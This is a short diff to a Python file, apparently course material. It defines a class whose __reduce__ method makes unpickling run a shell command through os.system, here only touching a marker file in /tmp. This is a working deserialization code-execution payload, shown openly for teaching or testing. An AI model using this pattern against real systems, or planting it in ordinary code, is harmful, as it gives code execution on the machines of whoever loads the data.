@@ -1,10 +1,11 @@
 """Return what runs a command in whoever unpickles it."""
 
+
 class Trap:
     def __reduce__(self):
         import os
 
-        return os.system, ("touch /tmp/course-trap",)
+        return os.system, ("touch /tmp/course-attack",)
 
 
 def my_share(n_items):
